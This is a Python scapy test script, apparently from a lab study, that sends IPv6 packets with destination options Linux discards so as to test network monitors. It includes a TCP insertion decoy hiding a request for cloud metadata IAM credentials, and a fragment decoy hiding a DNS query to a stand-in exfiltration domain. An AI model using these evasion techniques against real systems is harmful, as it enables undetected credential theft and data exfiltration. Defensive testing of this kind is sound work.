#!/usr/bin/python3
"""opts6.py IFACE - IPv6 packets whose destination options Linux refuses
(scapy; /usr/bin/python3 for scapy), from record6.sh's client fd53:6::10 on
IFACE to its server fd53:6::53 (FINDINGS.md R21-F5):
  1. UDP queries to port 53 with destination options Linux drops (an
     unknown option whose type says discard, 0x5e, 0x9e, 0xde; PadN over 7
     bytes; PadN not zero; 9 options) and two it takes (type 0x1e; 8
     options);
  2. a TCP decoy: a connection to port 80 opened by this host's own stack,
     then, with the next sequence number, a request for /index.html in a
     segment whose destination options say discard (Linux drops it), then
     the real request for the metadata endpoint's credentials, of the same
     length, from the socket;
  3. a fragment decoy: the head of a decoy query behind such options, then
     the real query's head and the shared tail.
One packet at a time, 0.1-0.5 s apart."""
import os, socket, sys, time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from frag6_chain import udp, fr, SRC, DST  # noqa: E402  (the same builders)
from scapy.all import (IPv6, IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, HBHOptUnknown, PadN,  # noqa: E402
                       TCP, Raw, AsyncSniffer, send, conf)

conf.verb = 0
DISCARD = [HBHOptUnknown(otype=0x9e, optdata=b"\0\0\0\0")]


def with_opts(opts, nh, payload):
    return IPv6(src=SRC, dst=DST, nh=60) / IPv6ExtHdrDestOpt(nh=nh, options=opts) / Raw(payload)


def main():
    iface = sys.argv[1]
    cases = [
        ("opt-skip-0x1e.example", [HBHOptUnknown(otype=0x1e, optdata=b"\0\0\0\0")]),
        ("opt-discard-0x5e.example", [HBHOptUnknown(otype=0x5e, optdata=b"\0\0\0\0")]),
        ("opt-icmp-0x9e.example", [HBHOptUnknown(otype=0x9e, optdata=b"\0\0\0\0")]),
        ("opt-icmpnm-0xde.example", [HBHOptUnknown(otype=0xde, optdata=b"\0\0\0\0")]),
        ("padn-14.example", [PadN(optdata=b"\0" * 12)]),
        ("padn-nonzero.example", [PadN(optdata=b"\0\1\0\0")]),
        ("nine-opts.example", [HBHOptUnknown(otype=0x1e, optdata=b"")] * 9 + [PadN(optdata=b"")]),
        ("eight-opts.example", [HBHOptUnknown(otype=0x1e, optdata=b"")] * 8 + [PadN(optdata=b"")]),
    ]
    for i, (name, opts) in enumerate(cases):
        send(with_opts(opts, 17, udp(name, 41000 + i, 0x7100 + i)))
        time.sleep(0.1)

    # 2. the TCP decoy
    decoy = b"GET /index.html/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa HTTP/1.1\r\nHost: www.example.com\r\n\r\n"
    real = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n"
    assert len(decoy) == len(real), (len(decoy), len(real))
    sn = AsyncSniffer(iface=iface, filter="ip6 and tcp and src port 80")
    sn.start()
    time.sleep(0.5)
    s = socket.create_connection((DST, 80), timeout=5)
    sport = s.getsockname()[1]
    time.sleep(0.3)
    got = sn.stop()
    synack = [p for p in got if p.haslayer(TCP) and p[TCP].flags & 0x12 == 0x12
              and p[TCP].dport == sport]
    sa = synack[-1][TCP]
    send(with_opts(DISCARD, 6, bytes(TCP(sport=sport, dport=80, flags="PA", seq=sa.ack,
                                         ack=sa.seq + 1, window=502) / Raw(decoy))))
    time.sleep(0.2)
    s.sendall(real)
    try:
        s.recv(4096)
    except OSError:
        pass
    s.close()
    time.sleep(0.5)

    # 3. the fragment decoy: its head behind discarding options
    dq = udp("w" * 20 + "gezdgnbvgy3tqojq00.f16.exfil-lab.com", 41020, 0x7120)
    rq = udp("optsmzxw6ytboi4dcnzr" + "gezdgnbvgy3tqojq00.f16.exfil-lab.com", 41020, 0x7120)
    assert len(dq) == len(rq) and dq[56:] == rq[56:]
    head = IPv6(src=SRC, dst=DST, nh=60) / IPv6ExtHdrDestOpt(nh=44, options=DISCARD) / \
        IPv6ExtHdrFragment(nh=17, offset=0, m=1, id=0x8400) / Raw(dq[:56])
    send(head)
    time.sleep(0.2)
    send(fr(0x8400, 0, 17, rq[:56], True))
    time.sleep(0.2)
    send(fr(0x8400, 56, 17, rq[56:], False))
    time.sleep(0.5)


if __name__ == "__main__":
    main()
